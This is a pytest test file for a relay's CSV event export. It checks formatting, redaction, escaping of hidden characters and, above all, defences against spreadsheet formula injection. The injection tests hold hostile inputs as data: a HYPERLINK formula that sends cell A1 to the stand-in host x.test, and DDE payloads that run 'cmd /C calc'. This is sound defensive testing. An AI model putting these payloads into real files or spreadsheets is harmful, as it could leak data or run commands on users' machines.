"""Events as CSV, read back as a spreadsheet reads them."""

import csv
from dataclasses import replace
from io import StringIO

import pytest

from relay.admin.event_csv import COLUMNS, csv_event, csv_heading
from relay.core.event import Status, event_of
from relay.core.redaction import Redaction
from relay.spool.history import Record
from tests.admin.test_serializers import RECORD
from tests.harness.deliveries import verified

FORMULAS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"


def read(*lines: str, separator: str = ",") -> list[list[str]]:
    return [*csv.reader(StringIO("".join(lines), newline=""), delimiter=separator)]


def row(record: Record, body: bytes = b"{}") -> dict[str, str]:
    heading, cells = read(csv_heading(), csv_event(record, event_of(verified(body=body))))
    return dict(zip(heading, cells, strict=True))


def test_an_event_is_one_line_with_its_body_as_text() -> None:
    record = replace(RECORD, references=(("order_id", "1"), ("transaction_id", "2")))
    assert row(record, b'{"a": "\xc3\xa9", "b": "x,y"}\n') == {
        "id": "evt_1",
        "received_at": "2026-01-05T12:00:00.123Z",
        "endpoint": "midtrans",
        "provider": "midtrans",
        "status": "dead",
        "key": "tx:settlement:200:accept",
        "references": "order_id=1, transaction_id=2",
        "upstream": "billing",
        "destinations": "billing dead",
        "attempts": "3",
        "last_outcome": "rejected 500",
        "settled_at": "2026-01-05T12:00:00.123Z",
        "client": "103.208.23.6",
        "body": '{"a": "é", "b": "x,y"}\\n',
    }
    assert tuple(read(csv_heading())[0]) == COLUMNS


def test_each_destination_is_told_with_its_status() -> None:
    [dead] = RECORD.destinations
    done = replace(dead, upstream="=ledger", status=Status.DELIVERED)
    told = row(replace(RECORD, destinations=(dead, done)))
    assert told["destinations"] == "billing dead, =ledger delivered"
    nowhere = row(replace(RECORD, upstream="", status=Status.DELIVERED, destinations=()))
    assert (nowhere["upstream"], nowhere["destinations"], nowhere["status"]) == (
        *("", "", "delivered"),
    )


def test_a_body_that_is_gone_is_empty_and_a_redacted_one_masked() -> None:
    [cells] = read(csv_event(RECORD, None))
    assert cells[-1] == ""
    event = event_of(verified(body=b'{"card": "4111"}'))
    assert "4111" not in csv_event(RECORD, event, Redaction(["/card"]))


@pytest.mark.parametrize("first", FORMULAS)
@pytest.mark.parametrize("before", ["", " ", "  ", '"', "'", "\u00a0", "\t ", "\u201c"])
def test_no_cell_begins_a_formula(first: str, before: str) -> None:
    hostile = f'{before}{first}HYPERLINK("http://x.test/?"&A1,"click")'
    record = replace(RECORD, key=hostile, references=((hostile, hostile),))
    told = row(record, hostile.encode())
    for name in ("key", "references", "body"):
        assert told[name].startswith("'"), name
        assert told[name].lstrip("'\" ")[:1] != ""


@pytest.mark.parametrize(
    "hostile",
    ["=cmd|' /C calc'!A0", '=1+1";=1+1', "@SUM(1+1)*cmd|' /C calc'!A0", "+1;-2;@x", 'a";"=1+1'],
)
def test_no_other_separator_begins_one_either(hostile: str) -> None:
    line = csv_event(replace(RECORD, key=hostile), event_of(verified(body=hostile.encode())))
    for separator in ",;\t":
        for cell in read(line, separator=separator)[0]:
            assert cell.strip(" \"'")[:1] not in {*FORMULAS} or cell.lstrip(' "')[:1] == "'", cell


@pytest.mark.parametrize("hidden", ["\n", "\r\n", "\0", "\u202e", "\x1b[31m", "\u2028", "\x85"])
def test_what_cannot_be_seen_is_escaped_and_ends_no_line(hidden: str) -> None:
    line = csv_event(replace(RECORD, key=f"a{hidden}b"), None)
    assert hidden not in line.removesuffix("\r\n")
    assert len(line.splitlines()) == 1
    assert "a\\" in line
